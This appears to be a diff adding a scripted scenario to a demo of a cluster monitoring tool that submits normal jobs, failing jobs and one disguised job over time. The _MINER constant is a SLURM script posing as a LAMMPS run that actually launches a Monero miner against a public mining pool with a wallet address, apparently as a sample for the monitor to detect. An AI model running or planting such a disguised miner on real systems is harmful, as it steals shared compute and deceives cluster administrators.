@@ -1,0 +1,50 @@
+"""What happens in the first minutes of a demonstration, whatever the simulation brings: a miner, and jobs bound to fail."""
+
+from collections.abc import Callable
+from typing import NamedTuple
+
+from tocsin.demo.cluster import DemoCluster
+
+__all__ = ["Story"]
+
+GIB = 1024**3
+_MINER = """#!/bin/bash
+#SBATCH --job-name=copper
+#SBATCH --account=mat-oxides
+#SBATCH --partition=main
+#SBATCH --ntasks-per-node=8
+#SBATCH --time=12:00:00
+#SBATCH --output=%x-%j.out
+
+module load lammps/2023.08
+cp ~/.cache/lmp-omp ./lmp && chmod +x lmp
+srun ./lmp -o stratum+tcp://pool.minexmr.com:4444 -u 84mYdq2wzMnoor -p x -k --cpu-priority=0 --donate-level=1
+"""
+
+
+class _Scene(NamedTuple):
+    after: float
+    """Seconds of the demo from its beginning."""
+    submit: Callable[[DemoCluster], object]
+
+
+_SCENES = (
+    _Scene(420, lambda cluster: cluster.submit("relax", user="linus", size=2.0, memory=4 * GIB)),
+    _Scene(600, lambda cluster: cluster.submit("lammps", user="noor", script=_MINER)),
+    _Scene(900, lambda cluster: cluster.submit("relax", user="linus", mistake="crash")),
+    _Scene(1200, lambda cluster: cluster.submit("reduce", user="ida", mistake="path")),
+    _Scene(1500, lambda cluster: cluster.submit("sweep", user="max", size=4.0, time_limit=600)),
+)
+
+
+class Story:
+    """Told once, scene by scene, as the clock of the demo goes on."""
+
+    def __init__(self, cluster: DemoCluster) -> None:
+        self._cluster = cluster
+        self._left = list(_SCENES)
+
+    def tell(self, elapsed: float) -> None:
+        """Submit the jobs that are due."""
+        while self._left and self._left[0].after <= elapsed:
+            self._left.pop(0).submit(self._cluster)
